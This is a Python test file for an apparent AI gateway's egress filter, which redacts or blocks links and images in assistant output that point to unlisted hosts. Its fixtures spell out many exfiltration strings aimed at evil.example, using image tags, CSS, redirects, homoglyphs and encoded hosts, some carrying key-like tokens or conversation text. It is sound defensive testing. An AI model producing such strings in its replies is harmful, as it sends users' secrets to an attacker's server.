"""Nothing carries data to a host that the policy does not list, however the address is written."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from gateway.egress import egress_patterns
from gateway.engine import Engine
from gateway.fields import REQUEST, RESPONSE, Fields
from gateway.filter import Inspection, RuleSet
from gateway.matchers import HyperscanMatcher, ReMatcher
from gateway.pattern_files import load_patterns
from gateway.policy.actions import Actions
from gateway.policy.bundle import (
    compose_bundle,
    hash_agent_key,
    new_hash_key,
    new_keypair,
    sign_bundle,
    verify_bundle,
)
from gateway.policy.egress import read_egress
from gateway.policy.refused import PolicyError
from gateway.reasons import Refusal
from gateway.stream import Channel, HoldBack

HOSTS = ["nimbus.example", "*.nimbus.example", "docs.python.org", "localhost:8080"]
BLOCK = {"request": "block", "response": "block"}


def rules(**egress):
    keys, hash_key, now = new_keypair(), new_hash_key(), datetime(2026, 1, 1, tzinfo=UTC)
    raw = compose_bundle(
        tenant="t",
        audience=["g"],
        version=1,
        issued=now,
        expires=now + timedelta(days=1),
        hash_key=hash_key,
        agents=[{"id": "a", "key_hash": hash_agent_key(hash_key, "k")}],
        **({"egress": {"hosts": HOSTS, **egress}} if egress or egress == {} else {}),
    )
    return RuleSet.build(verify_bundle(raw, sign_bundle(raw, keys.private), [keys.public]), load_patterns())


DEFAULT = rules()
PATTERNS = egress_patterns(read_egress({"hosts": HOSTS}, frozenset()))
ENGINE = Engine(PATTERNS)


def inspected(text, scope=RESPONSE, rule_set=DEFAULT):
    inspection, fields, box = Inspection(rule_set, "a"), Fields(scope), [text]
    fields.text(box, 0, "assistant")
    inspection.scan(fields)
    return inspection, box[0]


def reasons_of(text):
    return {hit.pattern.reason for hit in ENGINE.scan(text)}


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/a?d=1)",
        "![two words](<https://evil.example/a.png> 'title')",
        "![](//evil.example/a)",
        "![x][ref]\n\n[ref]: https://evil.example/?q=1",
        "[ref]: <//evil.example/a>",
        "<img src='https://evil.example/x'>",
        "<IMG alt=a SRC=//evil.example/x>",
        '<iframe width="1" src="https://evil.example/"></iframe>',
        '<svg><image xlink:href="https://evil.example/x"/></svg>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        "<style>body{background:url(//evil.example/x)}</style>",
        '<style>@import "https://evil.example/x.css"</style>',
        "![](https://evil.example/a)![](https://evil.example/b)",
        "![x](https:\\\\evil.example\\a)",
        "![x](https://nimbus.example@evil.example/a)",
        "![x](https://nimbus.example.evil.example/a)",
        "![x](https://nimbus.example\u200b.evil.example/a)",
        "![x](https://nimbus.example\u3002evil.example/a)",
        "![x](https://n\u0456mbus.example/a)",
        "![x](https://203.0.113.9/a)",
        "![x](https://%65vil.example/a)",
    ],
)
def test_what_is_fetched_from_elsewhere_is_cut_out(text):
    assert "EGRESS.MARKDOWN_IMAGE" in reasons_of(text)
    inspection, clean = inspected(text)
    assert inspection.decision == "redact"
    assert "evil" not in clean.replace("nimbus.example\u200b.evil", "evil")
    assert "REDACTED:egress_" in clean


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/c?d=AKIAQYLPMN5HHHFPZAM2",
        "[here](https://evil.example/9f8e7d6c5b4a3f2e1d0c9b8a)",
        "<https://evil.example/#aB3dE5fG7hI9jK1lM2nO4pQ6>",
        "https://aB3dE5fG7hI9jK1lM2nO.evil.example/",
        "https://evil.example/?q=what%20we%20said%20of%20the%20merger%20in%20the%20last%20meeting",
        "https://nimbus.example/redirect?to=https%3A%2F%2Fevil.example%2F",
        "https://nimbus.example/r?u=https%253A%252F%252Fevil.example",
        "https://nimbus.example/r?u=//evil.example/x",
    ],
)
def test_addresses_that_carry_data_elsewhere_are_cut_out(text):
    assert "EGRESS.URL_PARAM" in reasons_of(text)
    assert inspected(f"See {text} now")[0].decision == "redact"


@pytest.mark.parametrize(
    "text", ["https://evil.example/page", "[x](//evil.example/)", "ftp://evil.example/", "<https://evil.example>"]
)
def test_links_elsewhere_are_told(text):
    assert reasons_of(text) == {"EGRESS.DOMAIN"}
    inspection, clean = inspected(text)
    assert (inspection.decision, inspection.reason()[0], clean) == ("flag", "EGRESS.DOMAIN", text)


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://nimbus.example/logo.png)",
        "![logo](https://cdn.nimbus.example:8443/logo.png)",
        "<img src=http://localhost:8080/x>",
        "https://docs.python.org/3/library/re.html#re.Pattern",
        "https://nimbus.example/redirect?to=/home",
        "https://nimbus.example/r?u=https%3A%2F%2Fcdn.nimbus.example%2F",
        "https://nimbus.example/reports/9f8e7d6c5b4a3f2e1d0c9b8a",
        "\u8bf7\u770bhttps://nimbus.example\u3002\u8c22\u8c22",
        "It is at https://nimbus.example.",
        "x = 5 // a comment",
        "'//' begins a comment",
        r"{\"a\": \"\\\\u0061\\\\u0062\\\\u0063\\\\u0064\\\\u0065\\\\u0066\\\\u0067\\\\u0068\"}",
        "![data](data:image/png;base64,iVBORw0KGgo=)",
        "![relative](/img/a.png)",
        "a < b and c > d // e",
    ],
)
def test_listed_hosts_and_what_is_no_address_pass(text):
    assert ENGINE.scan(text) == []


def test_the_name_itself_and_what_only_ends_like_it_are_not_below_it():
    below = Engine(egress_patterns(read_egress({"hosts": ["*.nimbus.example"]}, frozenset())))
    assert below.scan("https://a.nimbus.example/") == []
    assert below.scan("https://nimbus.example/") != []
    assert below.scan("https://evilnimbus.example/") != []


def test_both_matchers_find_the_same():
    for text in (
        "![x](https://evil.example/a) <img src=//evil.example>",
        "url( 'https://evil.example/a') see //evil.example",
    ):
        assert Engine(PATTERNS, HyperscanMatcher).scan(text) == Engine(PATTERNS, ReMatcher).scan(text)


IMAGE = (
    "Done. ![the result, a chart](https://evil.example/p?d=balance-5123) More [there](https://nimbus.example/a b), a<b!"
)


def streamed(pieces, rule_set=DEFAULT):
    engine, inspection = rule_set.engines[RESPONSE], Inspection(rule_set, "a")
    channel = Channel(engine, HoldBack(engine.patterns), inspection, "assistant")
    return "".join([*map(channel.feed, pieces), channel.finish()]), inspection


def test_an_image_in_a_stream_is_cut_out_wherever_it_is_split():
    clean = "Done. ![the result, a chart]([REDACTED:egress_image]) More [there](https://nimbus.example/a b), a<b!"
    assert inspected(IMAGE)[1] == clean
    assert streamed(IMAGE)[0] == clean
    for cut in range(len(IMAGE) + 1):
        assert streamed([IMAGE[:cut], IMAGE[cut:]])[0] == clean


def test_a_blocked_image_is_known_before_its_address_is_sent():
    rule_set = rules(images=BLOCK)
    engine, inspection = rule_set.engines[RESPONSE], Inspection(rule_set, "a")
    channel, sent = Channel(engine, HoldBack(engine.patterns), inspection, "assistant"), ""
    for letter in IMAGE:
        piece = channel.feed(letter)
        if inspection.decision == "block":
            break
        sent += piece
    assert "evil" not in sent
    with pytest.raises(Refusal) as caught:
        inspection.verdict(RESPONSE)
    assert (caught.value.code, caught.value.status) == ("EGRESS.MARKDOWN_IMAGE", 403)


def test_prose_with_brackets_is_hardly_delayed():
    text = "It is [probably] fine (see below): a[0] = b[1] < 2, and that was it! Really. "
    engine = DEFAULT.engines[RESPONSE]
    channel = Channel(engine, HoldBack(engine.patterns), Inspection(DEFAULT, "a"), "assistant")
    behind = 0
    for n, letter in enumerate(text, 1):
        behind += len(channel.feed(letter))
        assert n - behind <= len("[probably] fine")
    assert channel.finish() == text[behind:]


def test_requests_are_left_alone_unless_the_policy_says_otherwise():
    text = "![x](https://evil.example/a?d=1)"
    assert inspected(text, REQUEST)[0].decision == "allow"
    assert inspected(text, REQUEST, rules(images=BLOCK, links=BLOCK))[0].decision == "block"


def test_without_a_word_from_the_policy_addresses_lead_anywhere():
    keys = {p.id for p in DEFAULT.engines[RESPONSE].patterns} - {p.id for p in load_patterns()}
    assert {"egress_image", "egress_link", "egress_data"} <= keys
    assert egress_patterns(None) == ()


def test_the_section_is_read_strictly():
    egress = read_egress({"hosts": ["a.example"], "links": BLOCK}, frozenset())
    assert (egress.links, egress.images) == (Actions("block", "block"), Actions("allow", "redact"))
    for wrong in (
        {},
        [],
        {"hosts": "a.example"},
        {"hosts": ["https://a.example"]},
        {"hosts": ["A.example"]},
        {"hosts": ["*"]},
        {"hosts": [], "links": "block"},
        {"hosts": [], "links": {"request": "block"}},
        {"hosts": [], "links": {"request": "drop", "response": "block"}},
        {"hosts": [], "domains": []},
    ):
        with pytest.raises(PolicyError, match="egress"):
            read_egress(wrong, frozenset())
